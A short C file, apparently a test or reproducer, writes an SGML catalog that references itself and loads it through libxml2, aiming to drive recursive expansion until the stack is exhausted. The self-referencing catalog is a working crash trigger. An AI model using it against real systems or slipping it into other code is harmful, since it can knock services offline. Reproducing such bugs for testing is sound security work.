/* An SGML catalog that names itself is expanded until the stack ends. */
#include "session.h"
#include <libxml/catalog.h>
#include <libxml/parser.h>

void prepare(void) { xmlInitParser(); }

void hole(void)
{
    char text[64];
    const char *path = file_of("", 0);
    int length = snprintf(text, sizeof text, "CATALOG \"%s\"\n", path);
    int file = open(path, O_WRONLY);
    if (write(file, text, (size_t)length) != length)
        abort();
    xmlCatalogPtr catalog = xmlLoadACatalog(path);
    say("catalog %s", catalog ? "loaded" : "rejected");
}
